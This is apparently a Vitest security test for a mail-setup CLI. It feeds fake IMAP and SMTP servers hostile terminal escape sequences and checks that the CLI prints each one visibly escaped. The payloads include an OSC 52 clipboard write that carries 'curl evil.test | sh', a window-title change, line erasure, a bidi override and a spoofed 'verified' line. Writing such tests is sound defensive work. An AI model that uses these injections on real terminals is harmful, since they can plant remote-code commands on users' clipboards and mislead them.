// Finding 5: a hostile server's words reach the terminal escaped. A real IMAP and SMTP server
// on loopback answer `mail-setup verify` with a window-title OSC, an OSC 52 clipboard write,
// an erase-line CSI, a one-byte C1 CSI, a bidi override, a carriage return and a fake
// "Incoming: verified" line; the CLI must print every one of them as visible escapes.
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { allocLoopback } from '../world'
import { imapScript, smtpScript } from '../fakes/scripts'
import { startWorld, type World } from '../world/compose'

const ESC = '\x1b'
const TITLE = `${ESC}]0;owned-title\x07`
const CLIPBOARD = `${ESC}]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}\x07`
const ERASE = `${ESC}[2K\r`
const C1_CSI = '\u009b31m'
const BIDI = '\u202e'
const FAKE_LINE = 'Incoming: verified IMAP  mail.hostile.test:993'
const HOSTILE = `${TITLE}${CLIPBOARD}${ERASE}${C1_CSI}${BIDI}\n${FAKE_LINE}`
/** No byte in output that a terminal treats as a control (our own line feeds aside). */

const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/

let w: World
beforeAll(async () => {
  w = await startWorld(inject('bench'))
  const name = 'mail.hostile.test'
  const tls = await w.cert([name])
  const host = allocLoopback()
  await w.fake(name, {
    host,
    port: 993,
    tls,
    handler: imapScript({
      greeting: `* OK ${TITLE} ready`,
      caps: 'IMAP4rev1 AUTH=PLAIN',
      login: () => `NO [AUTHENTICATIONFAILED] ${HOSTILE.replace('\n', ' ')}`,
      authenticate: () => `NO [AUTHENTICATIONFAILED] ${HOSTILE.replace('\n', ' ')}`
    })
  })
  // SMTP carries the line feed inside a multi-line reply, which becomes one serverSays.
  await w.fake(name, {
    host,
    port: 465,
    tls,
    handler: smtpScript({
      ehlo: ['AUTH PLAIN LOGIN'],
      auth: () => `535-5.7.8 ${TITLE}${CLIPBOARD}\r\n535 5.7.8 ${ERASE}${FAKE_LINE}`
    })
  })
})
afterAll(() => w?.stop())

const args = [
  'verify',
  'victim@hostile.test',
  '--incoming',
  'imaps://mail.hostile.test:993',
  '--outgoing',
  'smtps://mail.hostile.test:465',
  '--no-save',
  '--transcript'
]

describe('server words on the terminal', () => {
  it('human output shows every control character escaped, and no fake line', async () => {
    const res = await w.cli(args, { env: { MAIL_SETUP_PASSWORD: 'Hostile-Pa55word' } })
    expect(res.code).toBe(4)
    const out = res.stdout + res.stderr
    expect(out).not.toMatch(RAW_CONTROL)
    // The words are still there for the helpdesk, visibly escaped.
    expect(out).toContain('\\x1b]52;c;')
    expect(out).toContain('\\x1b]0;owned-title\\x07')
    expect(out).toContain('\\x9b31m')
    // The only "Incoming:" line at the start of a line is ours.
    const starts = out.split('\n').filter((l) => l.startsWith('Incoming:'))
    expect(starts).toEqual(['Incoming: NOT verified'])
  })

  it('--json output has no raw control bytes and reads back to the same words', async () => {
    const res = await w.cli([...args, '--json'], { env: { MAIL_SETUP_PASSWORD: 'Hostile-Pa55word' } })
    expect(res.code).toBe(4)
    expect(res.stdout + res.stderr).not.toMatch(RAW_CONTROL)
    const doc = JSON.parse(res.stdout) as {
      ok: boolean
      result: { verify: { probes: Array<{ diagnosis?: { serverSays?: string } }> } }
    }
    expect(doc.ok).toBe(false)
    const said = doc.result.verify.probes.map((p) => p.diagnosis?.serverSays ?? '').join('\n')
    expect(said).toContain(']52;c;')
  })
})
